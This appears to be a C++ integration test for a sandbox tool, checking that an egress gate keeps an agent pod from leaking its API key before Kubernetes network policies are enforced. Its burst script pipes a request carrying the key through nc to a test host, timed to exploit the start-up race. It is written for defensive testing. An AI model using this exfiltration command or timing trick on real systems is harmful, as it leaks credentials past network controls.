// Attack 56 E7 against the local cluster: an agent that, in its first milliseconds, sends its
// API key out in one request and keeps no socket. kube-router programs a new pod's policy some
// milliseconds after its containers start, and verify reads only what is held. A sandbox
// rossoctl writes starts with the egress gate, so the burst never gets out and verify says why;
// one without the gate leaves egress unproven.
#include <catch2/catch.hpp>

#include "harness.hpp"
#include "rossoctl/model/egress_gate.hpp"
#include "verify_report.hpp"

using nlohmann::json;

namespace {

constexpr const char* kKey = "sk-demo-not-a-real-key-0042";

// outside.rossoctl.test by its address: a DNS round trip first would lose the race.
std::string outsideAddress() {
    std::string outside = harness::outsideUrl(true);
    outside = outside.substr(outside.find("//") + 2);
    return outside.substr(0, outside.find_first_of(":/"));
}

// At once, up to 10 tries of one GET carrying the key (attack 56's burst), then nothing held.
std::string burstScript() {
    return "n=0; while [ $n -lt 10 ]; do n=$((n+1)); printf 'GET /gate-burst-%s-key=%s "
           "HTTP/1.0\\r\\nHost: outside.rossoctl.test\\r\\n\\r\\n' $n $AGENT_API_KEY | nc -w 2 " +
           outsideAddress() +
           " 80 > /tmp/burst-$n.log 2>&1 && break; sleep 0.05; done\n"
           "echo \"done n=$n\" > /tmp/burst.log\n"
           "trap 'exit 0' TERM; while :; do sleep 1 & wait $!; done";
}

// What the burst of the sandbox's current pod got: its own log, once it finished.
std::string burstLog(const std::string& ns, const std::string& pod) {
    std::string log;
    harness::eventually(
        [&] {
            log = harness::run({harness::kubectlPath(), "--kubeconfig", harness::kubeconfigPath(),
                                "exec", "-n", ns, pod, "-c", "agent", "--", "sh", "-c",
                                "cat /tmp/burst.log && cat /tmp/burst-*.log"})
                      .out;
            return log.find("done n=") != std::string::npos;
        },
        60);
    return log;
}

std::string podOf(const std::string& ns, const std::string& name) {
    const json sandbox = harness::getSandbox(ns, name);
    return sandbox["metadata"]["annotations"].value("agents.x-k8s.io/pod-name", name);
}

}  // namespace

TEST_CASE("sandbox verify: rossoctl's egress gate keeps a start burst in, and verify says so",
          "[verify-egress-gate]") {
    harness::TestNamespace project("verify56-gate", false);
    const std::string ns = project.name();
    harness::createProject(ns);
    std::vector<std::string> import = {"agents",
                                       "import",
                                       "--deployment-type",
                                       "sandbox",
                                       "from-image",
                                       "--name",
                                       "burst",
                                       "--containerImage",
                                       "busybox:1.36",
                                       "--cpu",
                                       "100m",
                                       "--memory",
                                       "64Mi",
                                       "--env",
                                       std::string("AGENT_API_KEY=") + kKey,
                                       "--command",
                                       "/bin/sh",
                                       "--args=-c",
                                       "--args",
                                       burstScript(),
                                       "-n",
                                       ns};
    auto imported = harness::rossoctl(import);
    INFO(imported.out << imported.err);
    REQUIRE(imported.exitCode == 0);
    const json written = harness::getSandbox(ns, "burst");
    CHECK(written["spec"]["podTemplate"]["spec"]["initContainers"][0] ==
          rossoctl::model::egressGateContainer("busybox:1.36"));
    REQUIRE(harness::eventually([&] { return harness::sandboxReadyNow(ns, "burst"); }, 180));
    const std::string first = burstLog(ns, podOf(ns, "burst"));
    INFO(first);
    CHECK(first.find("done n=10") != std::string::npos);
    CHECK(first.find("hello from the outside world") == std::string::npos);

    // With the restart: the replacement verify makes is judged too.
    auto verified =
        harness::rossoctl({"sandbox", "verify", "burst", "-n", ns, "--trusted-probe",
                           "busybox:1.36", "--egress-target", harness::outsideUrl(), "-o", "json"},
                          {}, {}, 300);
    INFO(verified.out << verified.err);
    const json report = json::parse(verified.out, nullptr, false);
    REQUIRE(report.is_object());
    const json& egress = harness::checkNamed(report, "egress");
    const std::string evidence = harness::evidenceOf(egress);
    CHECK(egress["result"] == "pass");
    CHECK_THAT(evidence, Catch::Contains("no container started before the policies held: "
                                         "rossoctl's egress gate saw them enforced"));
    CHECK_THAT(evidence, Catch::Matches("[\\s\\S]*replacement pod burst \\(uid [^)]*\\): no "
                                        "container started before the policies held[\\s\\S]*"));
    CHECK(verified.exitCode == 0);
    const std::string replaced = burstLog(ns, podOf(ns, "burst"));
    INFO(replaced);
    CHECK(replaced.find("done n=10") != std::string::npos);
    CHECK(replaced.find("hello from the outside world") == std::string::npos);
}

TEST_CASE("sandbox verify: a sandbox without the egress gate leaves egress unproven",
          "[verify-egress-gate]") {
    harness::TestNamespace project("verify56-nogate", false);
    const std::string ns = project.name();
    harness::createProject(ns);
    json box = harness::smallSandbox(ns, "burst", "busybox:1.36");
    json& spec = box["spec"]["podTemplate"]["spec"];
    spec.erase("initContainers");
    spec["containers"][0]["env"] = json::array({{{"name", "AGENT_API_KEY"}, {"value", kKey}}});
    spec["containers"][0]["command"] = {"/bin/sh", "-c", burstScript()};
    harness::admin().create(harness::sandboxRef(), ns, box);
    REQUIRE(harness::eventually([&] { return harness::sandboxReadyNow(ns, "burst"); }, 180));
    const std::string log = burstLog(ns, podOf(ns, "burst"));
    if (log.find("hello from the outside world") != std::string::npos)
        WARN("the burst got out before the policy held (attack 56 E7): " << log);
    const auto [result, report] = harness::verifyTrusted(ns, "burst");
    INFO(result.out << result.err);
    REQUIRE(report.is_object());
    const json& egress = harness::checkNamed(report, "egress");
    CHECK(result.exitCode == 3);
    CHECK(egress["result"] == "unproven");
    CHECK(egress["live"]["result"] == "unproven");
    CHECK_THAT(harness::evidenceOf(egress),
               Catch::Contains("the pod's containers may send in their first milliseconds, "
                               "before the network engine enforces its policies, and leave no "
                               "socket to read; this pod has no rossoctl egress gate"));
}
